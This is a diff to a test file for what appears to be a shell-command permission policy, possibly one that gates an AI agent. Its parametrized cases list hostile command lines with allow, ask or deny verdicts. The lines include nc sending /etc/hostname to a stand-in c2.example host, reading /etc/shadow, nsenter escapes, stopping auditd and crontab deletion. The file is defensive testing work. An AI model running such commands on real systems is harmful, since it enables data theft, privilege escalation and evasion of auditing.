@@ -156,7 +156,7 @@ def test_interpreter_code_options() -> None:
         ("curl http://0300.0250.1.1/", "deny", "0300.0250.1.1"),
         ("curl http://0x7f.1/admin", "allow", None),  # loopback: the connection decides
         ("curl http://[::ffff:169.254.169.254]/", "deny", "::ffff:169.254.169.254"),
-        ("sudo curl https://c2.example", "deny", None),  # sudo decides first
+        ("sudo curl https://c2.example", "ask", "c2.example"),  # sudo X is decided as X
         ("timeout 5 nc c2.example 4444 < /etc/hostname", "ask", "c2.example"),
     ],
 )
@@ -616,14 +616,14 @@ def test_publishing_by_effect(line: str, verdict: str) -> None:
     [
         # a command interpreter code runs is decided as the command, its rule named
         ("python3 -c \"import os; os.system('git push origin main')\"", "ask", "git push"),
-        ("python3 -c \"import subprocess; subprocess.run(['sudo', 'id'])\"", "deny", "sudo"),
+        ("python3 -c \"import subprocess; subprocess.run(['sudo', 'su'])\"", "deny", "su"),
         ("python3 -c \"import os; os.execvp('nsenter', ['nsenter', '-t', '1', '-m'])\"", "deny",
          "nsenter"),
         ("python3 -c \"import pty; pty.spawn(['sudo', '-i'])\"", "deny", "sudo"),
         ("node -e \"require('child_process').execSync('crontab -r')\"", "deny", "crontab"),
         ("node -e \"require('child_process').spawn('fly', ['apps', 'destroy', 'x'])\"", "ask",
          "api.fly.io"),
-        ("ruby -e 'puts `sudo id`'", "deny", "sudo"),
+        ("ruby -e 'puts `sudo mount /dev/sdb1 /x`'", "deny", "mount"),
         ("ruby -e 'system(\"systemctl\", \"stop\", \"auditd\")'", "deny", "systemctl"),
         ("perl -e 'my $x = qx{cat /etc/shadow}; print $x'", "deny", "/etc/shadow"),
         ("php -r \"echo shell_exec('nsenter -t 1 -m id');\"", "deny", "nsenter"),
